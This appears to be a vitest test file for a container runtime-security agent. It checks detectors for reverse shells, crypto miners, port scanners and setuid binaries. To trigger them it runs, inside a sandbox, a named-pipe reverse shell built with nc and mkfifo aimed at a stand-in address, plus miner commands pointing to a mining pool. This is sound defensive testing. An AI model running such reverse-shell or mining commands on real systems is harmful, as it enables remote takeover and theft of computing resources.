import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { Section } from "#gen/gabion/event/v1/event_pb.ts";
import { LearningState } from "#gen/gabion/model/v1/model_pb.ts";
import { Delivery, Effect, Outcome } from "#gen/gabion/policy/v1/policy_pb.ts";
import { CONTAINERS, missing } from "../test/requirements.ts";
import { until } from "../tools/demo/until.ts";
import { AgentRig } from "../tools/sandbox/agent-rig.ts";
import { testProgram } from "../tools/sandbox/programs.ts";
import type { SandboxContainer } from "../tools/sandbox/runc.ts";

const onKernel = test.skipIf(missing(...CONTAINERS) !== "");
const PROBE = "/opt/netprobe";
const HOST = "203.0.113.5";
const DETECTORS = { reverse_shell: {}, crypto_miner: {}, lateral_movement: {}, setuid: {} };

describe("detectors of the process section", () => {
  let rig: AgentRig;
  let web: SandboxContainer;
  const sh = (command: string) => web.exec("/bin/sh", "-c", command);
  const detected = (detector: string, text: string) =>
    rig.audited(`${detector} of ${text}`, (a) => a.decision?.detector === detector && a.message.includes(text));

  beforeAll(async () => {
    if (missing(...CONTAINERS) !== "") return;
    rig = await AgentRig.open("detect", LearningState.LEARNING);
    await rig.rules({ process: { effect: Effect.ALERT, detectors: DETECTORS }, network: { effect: Effect.ALERT } });
    web = rig.sandbox.start("web", {
      args: ["/bin/sh", "-c", "while true; do /bin/sleep 1; done"],
      programs: ["/bin/sh", "/bin/sleep", "/bin/nc", "/bin/mkfifo", "/bin/cat", "/usr/bin/nmap", "/usr/bin/miner"],
      files: {
        [PROBE]: { content: testProgram("netprobe"), mode: 0o755 },
        "/opt/setuid": { content: testProgram("nothing"), mode: 0o4755 },
      },
    });
    await rig.watched("web");
    await web.addAddresses(HOST);
    void web.exec(PROBE, "serve", HOST, "4444", "300");
    await rig.learned(PROBE);
    await sh("for i in 1 2 3; do true; done");
  });
  afterAll(async () => rig?.[Symbol.asyncDispose]());

  onKernel("a shell whose input is a connection is a threat, though shells are known", async () => {
    await rig.activate(LearningState.ACTIVE);
    await web.exec(PROBE, "shell", "exec", HOST, "4444", "/bin/sh");
    const audit = await detected("reverse_shell", "takes its commands from a connection");
    expect(audit.decision).toMatchObject({ outcome: Outcome.DETECTION });
    expect(audit.event?.actor?.path).toBe("/bin/sh");
  });

  onKernel("so is one that gets there through pipes", async () => {
    // As `nc host port </tmp/h | sh >/tmp/h` is: neither end of the shell is a connection itself.
    await sh(
      `/bin/mkfifo /tmp/g /tmp/h; (/bin/nc ${HOST} 4444 </tmp/h >/tmp/g 2>/dev/null &) ; /bin/sh >/tmp/h </tmp/g & /bin/sleep 1; kill $!`,
    );
    await detected("reverse_shell", "through a pipe from process");
  });

  onKernel(
    "and one on a pair of Unix sockets, of which another program with a connection has the other end",
    async () => {
      // Programs run others so all the time: what is known and no shell is only counted.
      const { id } = (await rig.watched("web")).cgroup;
      const row = () => rig.agent.stats?.rows.find((r) => r.cgroupId === id && r.section === Section.PROCESS);
      const beyond = (allowed: bigint) =>
        until("counters", 5_000, () => {
          const now = row();
          return now && now.allowed > allowed ? now : undefined;
        });
      await web.exec(PROBE, "ready");
      const before = await beyond(row()?.allowed ?? 0n);
      await web.exec(PROBE, "shell", "pair", HOST, "4444", "/bin/sleep");
      expect((await beyond(before.allowed + 1n)).emitted).toBe(before.emitted);
      // And commands by shells.
      await web.exec(PROBE, "shell", "pair", HOST, "4444", "/bin/sh", "/bin/sleep 1; true");
      expect(rig.audits.some((a) => a.message.includes("through a Unix socket"))).toBe(false);
      await web.exec(PROBE, "shell", "pair", HOST, "4444", "/bin/sh");
      await detected("reverse_shell", "through a Unix socket from process");
    },
  );

  onKernel("a program that turns its own input into a connection is one if it is a shell", async () => {
    await web.exec(PROBE, "shell", "dup", HOST, "4444");
    await sh(`cp ${PROBE} /tmp/bash; /tmp/bash shell dup ${HOST} 4444`);
    await detected("reverse_shell", "`/tmp/bash`");
    // Or where the connection takes the descriptor of its input by itself, made or accepted.
    await sh(`cp ${PROBE} /tmp/ash; /tmp/ash shell own ${HOST} 4444`);
    await detected("reverse_shell", "`/tmp/ash`");
    await sh(`cp ${PROBE} /tmp/dash; /tmp/dash shell accept ${HOST} 4445`);
    await detected("reverse_shell", "`/tmp/dash`");
    expect(rig.audits.some((a) => a.decision?.detector === "reverse_shell" && a.message.includes("netprobe"))).toBe(
      false,
    );
  });

  onKernel("attack tools and miners are found by name, miners by their arguments too", async () => {
    await web.exec("/usr/bin/nmap", "--help");
    await detected("lateral_movement", "is a tool that scans ports");
    await web.exec("/usr/bin/miner", "-o", "stratum+tcp://pool.example:3333");
    await detected("crypto_miner", "stratum+tcp://pool.example");
    await sh("cp /bin/sleep /tmp/xmrig; /tmp/xmrig 0");
    await detected("crypto_miner", "has the name of a mining program");
  });

  onKernel("the parent check asks who started a known program", async () => {
    await rig.rules({ process: { effect: Effect.ALERT, detectors: { parent_check: {} } } });
    await sh("/bin/sleep 0; exec /bin/sh -c '/bin/sleep 0'");
    // Long enough for its parent, outside of the container, to be asked who it is.
    await web.exec("/bin/sleep", "1");
    const audit = await detected("parent_check", "`/bin/sleep` was started by");
    expect(audit.message).toMatch(/runc/);
    expect(rig.audits.some((a) => a.message.includes("was started by `/bin/sh`"))).toBe(false);
    await rig.rules({ process: { effect: Effect.ALERT, detectors: DETECTORS } });
  });

  onKernel("a program that gives another user's rights is told", async () => {
    await sh("/bin/sh -c true");
    const { output } = await web.exec("/opt/setuid");
    expect(output).toBe("");
    expect(rig.audits.some((a) => a.decision?.detector === "setuid")).toBe(false);
    await web.execAs("1000:1000", "/opt/setuid");
    await detected("setuid", "takes another user's rights");
  });

  onKernel("an exception silences a detector, the allowed list does not", async () => {
    const before = rig.audits.length;
    await rig.rules({
      process: {
        effect: Effect.ALERT,
        allowed: [{ process: "/usr/bin/nmap" }, { process: "/bin/sh" }, { process: PROBE }],
        detectors: { lateral_movement: { exceptions: ["/usr/bin/nmap"] }, reverse_shell: {} },
      },
    });
    await web.exec("/usr/bin/nmap", "--help");
    await web.exec(PROBE, "shell", "exec", HOST, "4444", "/bin/sh");
    await rig.audited("the shell", (a) => rig.audits.indexOf(a) >= before && a.decision?.detector === "reverse_shell");
    expect(rig.audits.slice(before).some((a) => a.decision?.detector === "lateral_movement")).toBe(false);
  });

  onKernel("the server of a busybox hands connections to its children and is no shell; its shell is one", async () => {
    await rig.rules({
      process: { effect: Effect.ALERT, detectors: { reverse_shell: {} } },
      syscall: { effect: Effect.ALERT },
    });
    const applets = rig.sandbox.start("applets", {
      args: ["/bin/httpd", "-f", "-p", "8080", "-h", "/tmp"],
      programs: [],
      applets: ["/bin/sh", "/bin/httpd", "/bin/wget"],
      files: { [PROBE]: { content: testProgram("netprobe"), mode: 0o755 } },
    });
    await rig.watched("applets");
    await applets.addAddresses(HOST);
    const ofApplets = () =>
      rig.audits.filter((a) => a.container?.containerId === "applets" && a.decision?.detector === "reverse_shell");
    // Each request is a child whose input becomes the connection; the call by which it does is told like any other.
    await until("the server's answer", 15_000, async () => {
      const { output } = await applets.exec("/bin/wget", "-q", "-O", "-", "http://127.0.0.1:8080/");
      return output.includes("404") || undefined;
    });
    void applets.exec(PROBE, "serve", HOST, "4444", "300");
    await until("the shell", 15_000, async () => {
      // Until somebody listens there is no connection to be a shell's input.
      await applets.exec(PROBE, "shell", "exec", HOST, "4444", "/bin/sh");
      return ofApplets().some((a) => a.message.includes("`/bin/busybox` as `sh`")) || undefined;
    });
    expect(ofApplets().filter((a) => !a.message.includes("as `sh`"))).toEqual([]);
  });

  onKernel("block stops the container of a reverse shell", async () => {
    await rig.rules({ process: { effect: Effect.ALERT, detectors: { reverse_shell: { effect: Effect.BLOCK } } } });
    await web.exec(PROBE, "shell", "exec", HOST, "4444", "/bin/sh");
    const audit = await rig.audited("the stop", (a) => a.decision?.effectApplied === Effect.BLOCK);
    expect(audit.delivery).toBe(Delivery.AFTER_THE_FACT);
    expect((await web.ended).status).toBe(137);
  });
});
